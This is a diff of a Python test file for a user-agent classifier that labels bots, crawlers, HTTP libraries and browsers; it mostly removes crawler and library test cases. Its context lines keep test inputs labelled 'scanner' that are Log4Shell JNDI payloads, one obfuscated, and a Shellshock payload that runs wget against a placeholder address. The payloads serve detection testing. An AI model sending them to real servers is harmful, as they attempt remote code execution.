@@ -86,30 +86,6 @@ def test_a_bot_has_name_kind_and_purpose(user_agent: str, expected: Bot) -> None
         ("Mozilla/5.0 (compatible; foo-spider/v2; +https://www.example.org/)", "foo-spider"),
         ("Mozilla/5.0 (iPhone; CPU iPhone OS 8_3 like Mac OS X) (compatible; googlebot/2.1)", "googlebot"),
         ("example crawler/1.0", "crawler"),
-        # Without a version.
-        ("GoodBot", "GoodBot"),
-        ("MB-Web-Crawler", "MB-Web-Crawler"),
-        ("lanaibot please contact bot@example.org for information", "lanaibot"),
-        ("Mozilla/5.0 (compatible; EasouSpider; +http://www.easou.com/search/spider.html)", "EasouSpider"),
-        ("HybridBot (hybrid.ru/about)", "HybridBot"),
-        ("KlarnaBot-PriceWatcher/1.0", "KlarnaBot"),
-        (f"{CHROME} webtru_crawler", "webtru_crawler"),
-        (f"{CHROME} (compatible; Validbot; +https://www.example.org)", "Validbot"),
-        ("R6_FeedFetcher(www.radian6.com/crawler)", "R6_FeedFetcher"),
-        ("Mozilla/5.0 (compatible; Peew/1.0; http://www.peew.de/crawler/)", "Peew"),
-        # By the address of the operator.
-        ("Drupal (+http://drupal.org/)", "Drupal"),
-        ("PeerTube/5.2.0 (+https://peertube.example)", "PeerTube"),
-        ("Chef Client/10.18.2 (ruby-1.9.3; ohai-6.16.0; x86_64-linux; +http://opscode.com)", "Chef Client"),
-        (
-            "Mozilla/5.0 (X11; U; Linux x86_64; rv:1.9.0.19; aggregator:Spinn3r (Spinn3r 3.1);"
-            " http://spinn3r.com/robot) Gecko/2010040121 Firefox/3.0.19",
-            "Spinn3r",
-        ),
-        ("Pinterest/0.2 (+http://www.pinterest.com/)", "Pinterest"),
-        ("ExampleFetch 1.2 (+mailto:someone@example.org)", "ExampleFetch"),
-        ("Mozilla/5.0 (compatible; +http://www.example.org/about)", "example.org"),
-        ("Mozilla/5.0 (compatible; +mailto:someone@example.org)", "example.org"),
     ],
 )
 def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
@@ -134,10 +110,8 @@ def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
         ("Apache-HttpAsyncClient/4.1.3 (Java/1.8.0_121)", "Apache-HttpAsyncClient", "http-library"),
         ("Jakarta Commons-HttpClient/3.1", "Jakarta Commons-HttpClient", "http-library"),
         ("HTTPClient/1.0 (2.8.3, ruby 2.7.0 (2019-12-25))", "HTTPClient", "http-library"),
-        ("Ruby", "Ruby", "http-library"),
         ("urllib3/2.0.4", "urllib3", "http-library"),
         ("Python-httplib2/0.20.4 (gzip)", "Python-httplib2", "http-library"),
-        ("HTTP_Request2/2.3.0 (http://pear.php.net/package/http_request2) PHP/5.3.29", "HTTP_Request2", "http-library"),
         ("Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)", "WinHttp.WinHttpRequest", "http-library"),
         ("Microsoft BITS/7.8", "Microsoft BITS", "http-library"),
         ("Symfony BrowserKit", "Symfony BrowserKit", "http-library"),
@@ -154,7 +128,6 @@ def test_who_calls_itself_a_bot_is_one(user_agent: str, name: str) -> None:
         ("${jndi:ldap://192.0.2.1/a}", "${jndi", "scanner"),
         ("t('${${env:NaN:-j}ndi${env:NaN:-:}ldap://192.0.2.1/a}')", "${${", "scanner"),
         ('() { :; }; /bin/bash -c "wget http://192.0.2.1/a"', "() {", "scanner"),
-        ("UniversalFeedParser/4.2 +http://feedparser.org/", "UniversalFeedParser", "feed-reader"),
         ("FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)", "FeedFetcher-Google", "feed-reader"),
         ("mediapartners-google", "mediapartners-google", "advertising"),
         (ON_CHROME.format("Bluesky Cardyb/1.1; +mailto:support@bsky.app"), "Bluesky Cardyb", "social-preview"),
@@ -254,7 +227,6 @@ def test_phones_and_apps_with_names_like_bots_are_people(device: str, app: str) 
         "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Notion/2.0.23 Chrome/91.0 Electron/13.6.9 Safari/537.36",
         "Mozilla/5.0 (Windows NT 6.1) coccocbrowser/47.0 Chrome/41.0.2272.119coccoc Safari/537.36",
         "Mozilla/5.0 (iPhone; CPU iPhone OS 6_0 like Mac OS X) Mobile/10A403 SogouAndroidBrowser/2.6.1",
-        "PodcastAddict/v5 (+https://podcastaddict.com/; Android podcast app)",
     ],
 )
 def test_apps_and_browsers_with_names_of_bots_are_people(user_agent: str) -> None:
